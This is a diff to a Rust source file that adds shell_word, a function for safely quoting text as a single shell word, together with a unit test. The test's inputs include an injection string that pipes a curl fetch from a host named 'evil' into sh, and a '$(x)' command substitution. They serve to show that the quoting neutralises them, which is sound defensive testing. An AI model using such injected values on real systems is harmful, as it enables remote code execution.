@@ -22,6 +22,15 @@ pub(crate) fn indented(text: &str) -> String {
     lines(text.trim_end()).replace('\n', "\n    | ")
 }
 
+/// Returns a text as one word of a shell, for a command that a person may copy.
+pub(crate) fn shell_word(text: &str) -> String {
+    let is_plain = |c: char| c.is_ascii_alphanumeric() || "._:/@-".contains(c);
+    match !text.is_empty() && text.chars().all(is_plain) {
+        true => text.to_owned(),
+        false => format!("'{}'", text.replace('\'', r"'\''")),
+    }
+}
+
 fn escaped(text: &str, also: impl Fn(char) -> bool) -> Cow<'_, str> {
     let risky = |c: char| is_unsafe(c) || also(c);
     let Some(first) = text.find(risky) else {
@@ -135,6 +144,19 @@ mod tests {
             (0..=0x1f).chain(0x7f..=0x9f).filter_map(char::from_u32).filter(|c| !matches!(c, '\n' | '\t'))
         {
             assert!(is_unsafe(c), "{c:?}");
+        }
+    }
+
+    #[test]
+    fn words_of_a_shell_run_nothing() {
+        for (text, expected) in [
+            ("https://h.example:1/a_b-c", "https://h.example:1/a_b-c"),
+            ("a;curl${IFS}evil|sh", "'a;curl${IFS}evil|sh'"),
+            ("a'$(x)'", r"'a'\''$(x)'\'''"),
+            ("http://h/?…", "'http://h/?…'"),
+            ("", "''"),
+        ] {
+            assert_eq!(shell_word(text), expected);
         }
     }
 }
